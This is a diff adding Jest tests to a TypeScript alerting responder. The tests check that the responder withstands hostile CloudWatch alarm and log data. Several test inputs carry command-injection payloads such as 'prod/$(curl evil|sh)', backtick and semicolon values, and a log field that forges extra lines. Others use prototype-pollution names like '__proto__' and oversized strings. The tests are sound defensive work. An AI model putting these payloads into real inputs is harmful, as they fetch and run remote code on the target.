@@ -455,6 +455,37 @@ describe('responder', () => {
     });
   });
 
+  it.each([9e15, -9e15, 1.7e18, -1])('sends the page of a blocked loop that began at %d', async (startedAt) => {
+    deployed();
+    const hostile = {
+      durationMs: 412,
+      function: 'next     curl evil|sh\nrunbook  x',
+      stack: 'a'.repeat(150_000),
+      startedAt,
+    };
+    logs.on(FilterLogEventsCommand).resolves({
+      events: [{ message: JSON.stringify({ Host: 'h'.repeat(150_000), Episodes: [hostile] }) }],
+    });
+    await newResponder().respond(notification());
+    expect(page().text.match(/^(next|runbook)\b/gm)).toEqual(['next', 'runbook']);
+    expect(Buffer.byteLength(published()[0]?.Message ?? '')).toBeLessThan(256 * 1024);
+  });
+
+  it.each(['constructor', 'toString', 'hasOwnProperty', '__proto__'])(
+    'sends the page of an alarm that compares by %s',
+    async (name) => {
+      deployed({ ...loopLag, ComparisonOperator: name as 'GreaterThanThreshold' });
+      await newResponder().respond(notification());
+      expect(page().missingEvidence.join()).toContain('compares with no fixed threshold');
+    },
+  );
+
+  it.each(['prod/$(curl evil|sh)', 'prod/a;b', 'prod/`b`', "prod/a'b"])('quotes %s for the shell', async (subject) => {
+    deployed();
+    await newResponder().respond(notification({ AlarmName: `${subject}/host-loop-lag` }));
+    expect(page().next).toMatch(/^aws cloudwatch describe-alarms .* --alarm-names '.*'$/);
+  });
+
   it('sends one page for a notification that is delivered twice', async () => {
     deployed();
     const { respond, said } = newResponder();
